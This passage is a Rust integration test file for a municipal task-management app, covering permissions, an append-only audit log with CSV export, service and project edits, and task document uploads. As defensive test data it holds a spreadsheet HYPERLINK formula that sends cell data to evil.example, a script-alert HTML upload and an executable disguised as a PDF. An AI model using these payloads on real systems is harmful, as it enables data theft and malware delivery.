//! The settings around the work: services and projects renamed and deleted with care,
//! every change of them (and of rules, templates, roles, tokens) in an append-only audit
//! readable on the objects' pages and as CSV, documents attached to tasks, and the
//! dashboard's charts — on SQLite and PostgreSQL.

mod common;

use balise::model::account::Role;
use balise::model::task::TaskDraft;
use balise::policy::Actor;
use common::{Backend, TOKEN, TestApp, signed_in};
use reqwest::StatusCode;
use serde_json::{Value, json};
use sqlx::Connection;

const BRAINE: &str = "55004";
const SOIGNIES: &str = "55040";

/// A task's draft: to do, normal priority.
fn draft(title: &str) -> TaskDraft {
    TaskDraft {
        title: title.into(),
        status: "a_faire".into(),
        priority: 2,
        ..Default::default()
    }
}

/// A worker of Braine, signed in.
async fn worker_web(app: &TestApp) -> common::Browser {
    signed_in(app, "ouvrier2@braine.be", &[(BRAINE, Role::Worker)]).await
}

/// A task of Braine made by the system.
async fn make_task(app: &TestApp, d: TaskDraft) -> balise::model::task::Task {
    app.app
        .create_task(&Actor::System("test".into()), BRAINE, d)
        .await
        .unwrap()
}

async fn service_id(app: &TestApp, commune: &str, name: &str) -> String {
    app.app
        .store
        .services(Some(commune))
        .await
        .unwrap()
        .into_iter()
        .find(|s| s.name == name)
        .unwrap_or_else(|| panic!("no service {name}"))
        .id
        .to_string()
}

async fn user_id(app: &TestApp, email: &str) -> String {
    app.app
        .store
        .user_by_email(email)
        .await
        .unwrap()
        .unwrap()
        .0
        .id
        .to_string()
}

/// An API call with the bootstrap token (or none), a JSON body and extra headers.
async fn api(
    app: &TestApp,
    method: reqwest::Method,
    path: &str,
    body: Option<Value>,
    headers: &[(&str, &str)],
) -> reqwest::Response {
    let mut req = reqwest::Client::new()
        .request(method, app.url(path))
        .bearer_auth(TOKEN);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    if let Some(b) = body {
        req = req.json(&b);
    }
    req.send().await.unwrap()
}

/// An API call as a signed-in person (`None`: anonymous).
async fn api_as(
    app: &TestApp,
    who: Option<&common::Browser>,
    method: reqwest::Method,
    path: &str,
    body: Option<Value>,
) -> StatusCode {
    let mut req = reqwest::Client::new()
        .request(method, app.url(path))
        .header("if-match", "*");
    if let Some(b) = who {
        req = req
            .header(reqwest::header::COOKIE, b.cookie_header())
            .header(reqwest::header::ORIGIN, &app.base);
    }
    if let Some(b) = body {
        req = req.json(&b);
    }
    req.send().await.unwrap().status()
}

/// Who may change services, rules, members, projects and documents through the API:
/// the commune's admins (services, rules, people) or planners (projects), nobody of
/// another town, nobody anonymous.
async fn the_new_routes_keep_to_roles_and_communes(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let system = Actor::System("test".into());
    let worker = signed_in(&app, "ouvrier@braine.be", &[(BRAINE, Role::Worker)]).await;
    let agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let other = signed_in(&app, "admin@soignies.be", &[(SOIGNIES, Role::Admin)]).await;
    let s = app
        .app
        .add_service(&system, BRAINE, "Voirie")
        .await
        .unwrap();
    let p = app
        .app
        .add_project(&system, BRAINE, "Festival", "")
        .await
        .unwrap();
    let t = make_task(&app, draft("Barrières")).await;
    let agent_id = user_id(&app, "agent@braine.be").await;
    use reqwest::Method as M;
    let name = Some(json!({"name": "Autre nom"}));
    let cases: Vec<(M, String, Option<Value>, [StatusCode; 4])> = vec![
        // [anonymous, worker of Braine, agent of Braine, admin of Soignies]
        (
            M::PATCH,
            format!("/api/v1/services/{}", s.id),
            name.clone(),
            [
                StatusCode::UNAUTHORIZED,
                StatusCode::FORBIDDEN,
                StatusCode::FORBIDDEN,
                StatusCode::FORBIDDEN,
            ],
        ),
        (
            M::PUT,
            format!("/api/v1/services/{}/members/{agent_id}", s.id),
            None,
            [
                StatusCode::UNAUTHORIZED,
                StatusCode::FORBIDDEN,
                StatusCode::FORBIDDEN,
                StatusCode::FORBIDDEN,
            ],
        ),
        (
            M::DELETE,
            format!("/api/v1/services/{}", s.id),
            None,
            [
                StatusCode::UNAUTHORIZED,
                StatusCode::FORBIDDEN,
                StatusCode::FORBIDDEN,
                StatusCode::FORBIDDEN,
            ],
        ),
        (
            M::PATCH,
            format!("/api/v1/projects/{}", p.id),
            name.clone(),
            [
                StatusCode::UNAUTHORIZED,
                StatusCode::FORBIDDEN,
                StatusCode::OK,
                StatusCode::NOT_FOUND,
            ],
        ),
        (
            M::GET,
            format!("/api/v1/audit?commune={BRAINE}"),
            None,
            [
                StatusCode::UNAUTHORIZED,
                StatusCode::OK,
                StatusCode::OK,
                StatusCode::FORBIDDEN,
            ],
        ),
        (
            M::POST,
            format!("/api/v1/tasks/{}/documents?name=a.txt", t.id),
            None,
            [
                StatusCode::UNAUTHORIZED,
                StatusCode::UNPROCESSABLE_ENTITY,
                StatusCode::UNPROCESSABLE_ENTITY,
                StatusCode::NOT_FOUND,
            ],
        ),
        (
            M::DELETE,
            format!("/api/v1/projects/{}", p.id),
            None,
            [
                StatusCode::UNAUTHORIZED,
                StatusCode::FORBIDDEN,
                StatusCode::NO_CONTENT,
                StatusCode::NOT_FOUND,
            ],
        ),
    ];
    for (method, path, body, expected) in cases {
        let got = [
            api_as(&app, None, method.clone(), &path, body.clone()).await,
            api_as(&app, Some(&worker), method.clone(), &path, body.clone()).await,
            api_as(&app, Some(&other), method.clone(), &path, body.clone()).await,
        ];
        // the agent last: a change it may make must not hide the others' answers
        let agent_got = api_as(&app, Some(&agent), method.clone(), &path, body.clone()).await;
        assert_eq!(
            [got[0], got[1], agent_got, got[2]],
            expected,
            "{method} {path}"
        );
    }
    // templates through the API: the commune's planners write, its people read
    let templates = format!("/api/v1/templates?commune={BRAINE}");
    let body = Some(json!({"name": "Panneaux", "title": "Poser les panneaux"}));
    assert_eq!(
        [
            api_as(&app, None, M::GET, &templates, None).await,
            api_as(&app, Some(&worker), M::GET, &templates, None).await,
            api_as(&app, Some(&other), M::GET, &templates, None).await,
            api_as(&app, Some(&worker), M::POST, &templates, body.clone()).await,
            api_as(&app, Some(&other), M::POST, &templates, body.clone()).await,
            api_as(&app, Some(&agent), M::POST, &templates, body).await,
        ],
        [
            StatusCode::UNAUTHORIZED,
            StatusCode::OK,
            StatusCode::FORBIDDEN,
            StatusCode::FORBIDDEN,
            StatusCode::FORBIDDEN,
            StatusCode::CREATED,
        ]
    );
    // the web forms of projects and templates follow the same rules
    let p2 = app
        .app
        .add_project(&system, BRAINE, "Kermesse", "")
        .await
        .unwrap();
    let template = app.app.store.templates(Some(BRAINE)).await.unwrap()[0]
        .id
        .to_string();
    for (who, project_status, template_status) in [
        (&worker, StatusCode::FORBIDDEN, StatusCode::FORBIDDEN),
        (&other, StatusCode::NOT_FOUND, StatusCode::NOT_FOUND),
    ] {
        let mut b = common::Browser::new(&app.base);
        b.cookies = who.cookies.clone();
        b.get("/agent/taches").await;
        let (status, _) = b
            .post(
                &format!("/agent/projets/{}", p2.id),
                &[("action", "supprimer")],
            )
            .await;
        assert_eq!(status, project_status);
        let (status, _) = b
            .post(
                "/agent/modeles",
                &[
                    ("commune", BRAINE),
                    ("action", "supprimer"),
                    ("template", &template),
                ],
            )
            .await;
        assert_eq!(status, template_status);
    }
    assert_eq!(
        app.app.store.templates(Some(BRAINE)).await.unwrap().len(),
        1
    );
    // a rule: admins of its commune only
    app.app
        .add_rule(
            &system,
            balise::model::triage::Rule {
                id: uuid::Uuid::now_v7(),
                commune: BRAINE.into(),
                position: 0,
                category: None,
                area: None,
                service: s.id,
            },
        )
        .await
        .unwrap();
    let rule = app.app.store.rules(BRAINE).await.unwrap()[0].id;
    let path = format!("/api/v1/rules/{rule}?commune={BRAINE}");
    for who in [Some(&worker), Some(&agent)] {
        assert_eq!(
            api_as(&app, who, M::DELETE, &path, None).await,
            StatusCode::NOT_FOUND
        );
    }
    let res = api(
        &app,
        M::PATCH,
        &path,
        Some(json!({"move": "sideways"})),
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let res = api(&app, M::PATCH, &path, Some(json!({"move": "up"})), &[]).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let res = api(&app, M::DELETE, &path, None, &[]).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    assert!(app.app.store.rules(BRAINE).await.unwrap().is_empty());
    app.stop().await;
}

/// An agent names a project like a spreadsheet formula; the journal the admin downloads
/// holds it as text (a leading apostrophe), so opening the file runs nothing.
async fn a_formula_typed_by_an_agent_reaches_the_admins_spreadsheet_as_text(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut admin = signed_in(&app, "admin@braine.be", &[(BRAINE, Role::Admin)]).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"Cliquez")"#;
    for name in [formula, "@SUM(1+1)", "-1+2"] {
        let (status, to) = agent
            .post(
                "/agent/projets",
                &[
                    ("commune", BRAINE),
                    ("name", name),
                    ("description", "+33 6"),
                ],
            )
            .await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    }
    let (status, csv_text) = admin
        .get(&format!("/agent/journal.csv?commune={BRAINE}"))
        .await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(
        rows.iter().any(|r| r[4] == format!("'{formula}")),
        "the name is kept, as text: {csv_text}"
    );
    for cell in rows
        .iter()
        .flat_map(|r| r.iter().map(str::to_string).collect::<Vec<_>>())
    {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula: {cell:?}"
        );
    }
    app.stop().await;
}

async fn settings_changes_are_audited_and_exported(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut admin = signed_in(&app, "admin@braine.be", &[(BRAINE, Role::Admin)]).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let mut soignies = signed_in(&app, "agent@soignies.be", &[(SOIGNIES, Role::Agent)]).await;
    let post = |fields: Vec<(&'static str, String)>| {
        let mut f = vec![("commune", BRAINE.to_string())];
        f.extend(fields);
        f
    };
    let send = async |b: &mut common::Browser, path: &str, f: Vec<(&'static str, String)>| {
        let f: Vec<(&str, &str)> = f.iter().map(|(k, v)| (*k, v.as_str())).collect();
        b.post(path, &f).await
    };
    let (status, to) = send(
        &mut admin,
        "/agent/services",
        post(vec![
            ("action", "service".into()),
            ("name", "Voirie".into()),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let sid = service_id(&app, BRAINE, "Voirie").await;
    // a second "Voirie" is refused, not quietly the first one
    let (status, page) = send(
        &mut admin,
        "/agent/services",
        post(vec![
            ("action", "service".into()),
            ("name", "Voirie".into()),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("porte déjà ce nom"), "{page}");
    let (status, to) = send(
        &mut admin,
        "/agent/services",
        post(vec![
            ("action", "renommer-service".into()),
            ("service", sid.clone()),
            ("version", "1".into()),
            ("name", "Voiries et égouts".into()),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let (_, page) = admin.get(&to).await;
    assert!(page.contains("Le service a été renommé."), "{page}");
    let agent_id = user_id(&app, "agent@braine.be").await;
    for fields in [
        vec![
            ("action", "membre".into()),
            ("service", sid.clone()),
            ("person", agent_id.clone()),
        ],
        vec![
            ("action", "regle".into()),
            ("category", String::new()),
            ("service", sid.clone()),
            ("area", String::new()),
        ],
    ] {
        let (status, to) = send(&mut admin, "/agent/services", post(fields)).await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    }
    let rule = app.app.store.rules(BRAINE).await.unwrap()[0].id.to_string();
    let (status, _) = send(
        &mut admin,
        "/agent/services",
        post(vec![
            ("action", "supprimer-regle".into()),
            ("rule", rule.clone()),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (status, to) = send(
        &mut agent,
        "/agent/projets",
        post(vec![
            ("name", "Festival".into()),
            ("description", String::new()),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let project = to.trim_start_matches("/agent/projets/").to_string();
    let (status, page) = send(
        &mut agent,
        "/agent/projets",
        post(vec![
            ("name", "Festival".into()),
            ("description", String::new()),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        page.contains("Un autre projet de la commune porte déjà ce nom"),
        "{page}"
    );
    let (status, to) = send(
        &mut agent,
        &format!("/agent/projets/{project}"),
        vec![
            ("action", "modifier".into()),
            ("name", "Festival d'été".into()),
            ("description", "Juillet".into()),
            ("version", "1".into()),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    // the project's page shows its history
    let (_, page) = agent.get(&to).await;
    assert!(page.contains("Le projet a été enregistré."), "{page}");
    assert!(
        page.contains("Historique du projet") && page.contains("Festival → Festival d&#x27;été"),
        "{page}"
    );

    // the commune's journal, newest first; roles only for its admins
    let (status, page) = admin.get(&format!("/agent/journal?commune={BRAINE}")).await;
    assert_eq!(status, StatusCode::OK);
    for words in [
        "Voirie → Voiries et égouts",
        "Personne ajoutée",
        "Règle d&#x27;orientation : Toute catégorie",
        "Suppression",
        "Rôle donné",
        "agent@braine.be",
        "balise (tâche automatique)",
    ] {
        assert!(page.contains(words), "{words} in {page}");
    }
    assert!(page.find("Festival d&#x27;été").unwrap() < page.find("Voirie → Voiries").unwrap());
    let (_, page) = agent.get(&format!("/agent/journal?commune={BRAINE}")).await;
    assert!(page.contains("Voiries et égouts") && !page.contains("Rôle donné"));
    // one object's lines
    let (_, page) = admin
        .get(&format!("/agent/journal?commune={BRAINE}&objet={sid}"))
        .await;
    assert!(page.contains("Voiries et égouts") && !page.contains("Festival"));
    // another town's agent sees their own journal only
    let (status, page) = soignies
        .get(&format!("/agent/journal?commune={BRAINE}"))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(!page.contains("Voiries"), "{page}");

    // the CSV holds the same lines, with their particulars
    let (status, csv_text) = admin
        .get(&format!("/agent/journal.csv?commune={BRAINE}"))
        .await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "date",
            "by",
            "type",
            "object_id",
            "object",
            "action",
            "details"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let renamed = rows
        .iter()
        .find(|r| &r[2] == "service" && &r[5] == "renomme")
        .expect("the rename is in the CSV");
    assert_eq!(&renamed[3], sid.as_str());
    assert!(renamed[1].starts_with("user:"), "{renamed:?}");
    let details: Value = serde_json::from_str(&renamed[6]).unwrap();
    assert_eq!(
        details,
        json!({"name": {"from": "Voirie", "to": "Voiries et égouts"}})
    );
    assert!(
        rows.iter()
            .any(|r| &r[2] == "regle" && &r[5] == "supprime" && &r[3] == rule.as_str())
    );
    assert!(
        rows.iter()
            .any(|r| &r[2] == "compte" && &r[5] == "role_donne")
    );

    // the API: the same audit, for the commune's people only
    let res = api(
        &app,
        reqwest::Method::GET,
        &format!("/api/v1/audit?commune={BRAINE}"),
        None,
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::OK);
    let audit = res.json::<Value>().await.unwrap()["audit"].clone();
    assert_eq!(audit[0]["kind"], "projet");
    assert!(
        audit[0]["at"].as_str().is_some_and(|at| at.ends_with('Z')),
        "an RFC 3339 instant: {}",
        audit[0]
    );
    assert_eq!(audit[0]["action"], "modifie");
    assert_eq!(
        audit[0]["details"]["name"],
        json!({"from": "Festival", "to": "Festival d'été"})
    );
    let res = api(
        &app,
        reqwest::Method::GET,
        &format!("/api/v1/audit?commune={BRAINE}&kind=regle"),
        None,
        &[],
    )
    .await;
    let kinds: Vec<Value> = res.json::<Value>().await.unwrap()["audit"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["kind"].clone())
        .collect();
    assert_eq!(kinds, [json!("regle"), json!("regle")]);
    for bad in ["kind=personne", "limit=0", "limit=5001"] {
        let res = api(
            &app,
            reqwest::Method::GET,
            &format!("/api/v1/audit?commune={BRAINE}&{bad}"),
            None,
            &[],
        )
        .await;
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{bad}");
    }
    // a long journal: the page shows the latest 500, the CSV all of them
    let system = Actor::System("test".into());
    let id = uuid::Uuid::parse_str(&sid).unwrap();
    for i in 0..500 {
        app.app
            .rename_service(&system, id, &format!("Voirie {i}"), None)
            .await
            .unwrap();
    }
    let (_, page) = admin.get(&format!("/agent/journal?commune={BRAINE}")).await;
    assert_eq!(page.matches("<tr><td>").count(), 500);
    assert!(page.contains("Les 500 modifications les plus récentes sont affichées"));
    let (_, csv_text) = admin
        .get(&format!("/agent/journal.csv?commune={BRAINE}"))
        .await;
    assert_eq!(csv_text.lines().count(), 1 + rows.len() + 500);
    let res = reqwest::Client::new()
        .get(app.url(&format!("/api/v1/audit?commune={BRAINE}")))
        .header(reqwest::header::COOKIE, soignies.cookie_header())
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);

    // nothing in the audit is ever changed or removed
    let url = app.db().url.clone();
    let refused = match backend {
        Backend::Sqlite => {
            let mut c = sqlx::SqliteConnection::connect(&url).await.unwrap();
            [
                sqlx::query("UPDATE audit_log SET actor = 'x'")
                    .execute(&mut c)
                    .await
                    .is_err(),
                sqlx::query("DELETE FROM audit_log")
                    .execute(&mut c)
                    .await
                    .is_err(),
            ]
        }
        Backend::Postgres => {
            let mut c = sqlx::PgConnection::connect(&url).await.unwrap();
            [
                sqlx::query("UPDATE audit_log SET actor = 'x'")
                    .execute(&mut c)
                    .await
                    .is_err(),
                sqlx::query("DELETE FROM audit_log")
                    .execute(&mut c)
                    .await
                    .is_err(),
            ]
        }
    };
    assert_eq!(refused, [true, true], "the audit is append-only");
    app.stop().await;
}

async fn services_and_projects_change_under_their_rules(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut admin = signed_in(&app, "admin@braine.be", &[(BRAINE, Role::Admin)]).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let system = Actor::System("test".into());
    let voirie = app
        .app
        .add_service(&system, BRAINE, "Voirie")
        .await
        .unwrap();
    let proprete = app
        .app
        .add_service(&system, BRAINE, "Propreté")
        .await
        .unwrap();
    let vid = voirie.id.to_string();

    // a stale form is refused and shows the current name
    app.app
        .rename_service(&system, voirie.id, "Voirie communale", Some(1))
        .await
        .unwrap();
    let (status, page) = admin
        .post(
            "/agent/services",
            &[
                ("commune", BRAINE),
                ("action", "renommer-service"),
                ("service", &vid),
                ("version", "1"),
                ("name", "Voiries"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert!(
        page.contains("Quelqu&#x27;un a modifié ce service entre-temps")
            && page.contains("value=\"Voirie communale\""),
        "{page}"
    );
    // a name another service holds
    let (status, page) = admin
        .post(
            "/agent/services",
            &[
                ("commune", BRAINE),
                ("action", "renommer-service"),
                ("service", &vid),
                ("version", "2"),
                ("name", "Propreté"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("porte déjà ce nom"), "{page}");
    // agents may not rename
    let (status, _) = agent
        .post(
            "/agent/services",
            &[
                ("commune", BRAINE),
                ("action", "renommer-service"),
                ("service", &vid),
                ("name", "Pirate"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // a service still routed to, or with open work, is not deleted
    app.app
        .add_rule(
            &system,
            balise::model::triage::Rule {
                id: uuid::Uuid::now_v7(),
                commune: BRAINE.into(),
                position: 0,
                category: None,
                area: None,
                service: voirie.id,
            },
        )
        .await
        .unwrap();
    let (status, page) = admin
        .post(
            "/agent/services",
            &[
                ("commune", BRAINE),
                ("action", "supprimer-service"),
                ("service", &vid),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("encore des règles"), "{page}");
    let res = api(
        &app,
        reqwest::Method::DELETE,
        &format!("/api/v1/services/{vid}"),
        None,
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("1 rule(s)"));
    let rule = app.app.store.rules(BRAINE).await.unwrap()[0].id;
    app.app.delete_rule(&system, BRAINE, rule).await.unwrap();
    let task = make_task(
        &app,
        TaskDraft {
            service: Some(voirie.id),
            ..draft("Reboucher")
        },
    )
    .await;
    let res = api(
        &app,
        reqwest::Method::DELETE,
        &format!("/api/v1/services/{vid}"),
        None,
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("1 open task(s)"));
    let mut done = task.draft();
    done.status = "faite".into();
    app.app
        .update_task(&system, task.id, done, task.version)
        .await
        .unwrap();
    let (status, to) = admin
        .post(
            "/agent/services",
            &[
                ("commune", BRAINE),
                ("action", "supprimer-service"),
                ("service", &vid),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let (_, page) = admin.get(&to).await;
    assert!(page.contains("Le service a été supprimé.") && !page.contains("Voirie communale"));

    // the API refuses a name taken
    let res = api(
        &app,
        reqwest::Method::POST,
        &format!("/api/v1/services?commune={BRAINE}"),
        Some(json!({"name": "Propreté"})),
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("name_taken"));
    // the API renames under If-Match
    let path = format!("/api/v1/services/{}", proprete.id);
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &path,
        Some(json!({"name": "Propreté publique"})),
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::PRECONDITION_REQUIRED);
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &path,
        Some(json!({"name": "Propreté publique"})),
        &[("if-match", "\"7\"")],
    )
    .await;
    assert_eq!(res.status(), StatusCode::PRECONDITION_FAILED);
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &path,
        Some(json!({"name": "Propreté publique"})),
        &[("if-match", "\"1\"")],
    )
    .await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["etag"], "\"2\"");
    assert_eq!(
        res.json::<Value>().await.unwrap()["name"],
        "Propreté publique"
    );
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &path,
        Some(json!({"name": " "})),
        &[("if-match", "*")],
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // people: only those of the commune
    let soignies_person = {
        signed_in(&app, "agent@soignies.be", &[(SOIGNIES, Role::Agent)]).await;
        user_id(&app, "agent@soignies.be").await
    };
    let res = api(
        &app,
        reqwest::Method::PUT,
        &format!("{path}/members/{soignies_person}"),
        None,
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let agent_id = user_id(&app, "agent@braine.be").await;
    let res = api(
        &app,
        reqwest::Method::PUT,
        &format!("{path}/members/{agent_id}"),
        None,
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let listed = api(
        &app,
        reqwest::Method::GET,
        &format!("/api/v1/services?commune={BRAINE}"),
        None,
        &[],
    )
    .await;
    let listed: Value = listed.json().await.unwrap();
    assert_eq!(listed["services"][0]["members"], json!([agent_id]));

    // projects: renamed under If-Match, deleted once empty
    let p = app
        .app
        .add_project(&system, BRAINE, "Marché de Noël", "")
        .await
        .unwrap();
    let path = format!("/api/v1/projects/{}", p.id);
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &path,
        Some(json!({"description": "Décembre"})),
        &[("if-match", "\"1\"")],
    )
    .await;
    assert_eq!(res.status(), StatusCode::OK);
    let body: Value = res.json().await.unwrap();
    assert_eq!(
        (
            body["name"].as_str(),
            body["description"].as_str(),
            body["version"].as_i64()
        ),
        (Some("Marché de Noël"), Some("Décembre"), Some(2))
    );
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &path,
        Some(json!({"name": "Autre"})),
        &[("if-match", "\"1\"")],
    )
    .await;
    assert_eq!(res.status(), StatusCode::PRECONDITION_FAILED);
    let t = make_task(
        &app,
        TaskDraft {
            project: Some(p.id),
            ..draft("Monter les chalets")
        },
    )
    .await;
    let (status, page) = agent
        .post(
            &format!("/agent/projets/{}", p.id),
            &[("action", "supprimer")],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("encore des tâches"), "{page}");
    let mut out = t.draft();
    out.project = None;
    app.app
        .update_task(&system, t.id, out, t.version)
        .await
        .unwrap();
    let (status, to) = agent
        .post(
            &format!("/agent/projets/{}", p.id),
            &[("action", "supprimer")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let (_, page) = agent.get(&to).await;
    assert!(page.contains("Le projet a été supprimé.") && !page.contains("Marché de Noël"));
    let res = api(&app, reqwest::Method::DELETE, &path, None, &[]).await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    app.stop().await;
}

async fn documents_are_attached_to_tasks(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let mut other = signed_in(&app, "agent@soignies.be", &[(SOIGNIES, Role::Agent)]).await;
    let task = make_task(&app, draft("Autorisation de voirie")).await;
    let page_path = format!("/agent/taches/{}", task.id);
    agent.get(&page_path).await;
    let pdf = b"%PDF-1.4\n% plan de signalisation\n".to_vec();
    let (status, to) = agent
        .post_file(
            &format!("{page_path}/documents"),
            "document",
            pdf.clone(),
            "Plan signalisation é.pdf",
            "application/pdf",
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let (_, page) = agent.get(&page_path).await;
    assert!(
        page.contains("Plan signalisation é.pdf") && page.contains("PDF, 1 ko"),
        "{page}"
    );
    let doc = app
        .app
        .store
        .task(task.id)
        .await
        .unwrap()
        .unwrap()
        .documents[0]
        .clone();
    assert_eq!(
        (doc.media_type.as_str(), doc.size),
        ("application/pdf", pdf.len() as u64)
    );
    // downloaded as it was sent, never shown inline
    let link = format!("{page_path}/documents/{}", doc.id);
    let res = reqwest::Client::new()
        .get(app.url(&link))
        .header(reqwest::header::COOKIE, agent.cookie_header())
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "application/pdf");
    let disposition = res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        disposition.starts_with("attachment;")
            && disposition.contains("filename*=UTF-8''Plan%20signalisation%20%C3%A9%2Epdf"),
        "{disposition}"
    );
    assert_eq!(res.bytes().await.unwrap().to_vec(), pdf);
    // not for another town, nor for the public
    let (status, _) = other.get(&link).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let anonymous = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let res = anonymous.get(app.url(&link)).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    // a web page or a program named .pdf is refused, and says which files are accepted
    for (bytes, name) in [
        (b"<html><script>alert(1)</script>".to_vec(), "page.html"),
        (b"MZ\x90\x00\x03".to_vec(), "facture.pdf"),
    ] {
        let (status, page) = agent
            .post_file(
                &format!("{page_path}/documents"),
                "document",
                bytes,
                name,
                "application/octet-stream",
            )
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{name}");
        assert!(page.contains("Formats acceptés : pdf, odt"), "{page}");
    }
    let (status, page) = agent
        .post_file(
            &format!("{page_path}/documents"),
            "document",
            Vec::new(),
            "",
            "application/octet-stream",
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("Choisissez un document"), "{page}");
    // the history keeps the attachment
    let history = app.app.store.task_history(task.id).await.unwrap();
    assert!(history.last().unwrap().3["documents"]["to"][0]["name"] == "Plan signalisation é.pdf");

    // the API: attach by body, read back by its link
    let res = reqwest::Client::new()
        .post(app.url(&format!(
            "/api/v1/tasks/{}/documents?name=notes.txt",
            task.id
        )))
        .bearer_auth(TOKEN)
        .body("Riverains prévenus le 2/12")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::CREATED);
    let body: Value = res.json().await.unwrap();
    let href = body["documents"][1]["href"].as_str().unwrap().to_string();
    assert_eq!(
        body["documents"][1]["media_type"],
        "text/plain; charset=utf-8"
    );
    let res = api(&app, reqwest::Method::GET, &href, None, &[]).await;
    assert_eq!(res.text().await.unwrap(), "Riverains prévenus le 2/12");
    let res = reqwest::Client::new()
        .post(app.url(&format!("/api/v1/tasks/{}/documents?name=x.svg", task.id)))
        .bearer_auth(TOKEN)
        .body("<svg/>")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("unsupported_type"));

    // a document attached by mistake is taken off: by the commune's planners only
    let worker = signed_in(&app, "ouvrier@braine.be", &[(BRAINE, Role::Worker)]).await;
    let remove = format!("{link}/retirer");
    let mut w = worker;
    w.get(&page_path).await;
    let (status, _) = w.post(&remove, &[]).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (_, page) = agent.get(&page_path).await;
    assert!(
        page.contains("Retirer « Plan signalisation é.pdf »"),
        "{page}"
    );
    let (status, to) = agent.post(&remove, &[]).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let kept = app.app.store.task(task.id).await.unwrap().unwrap();
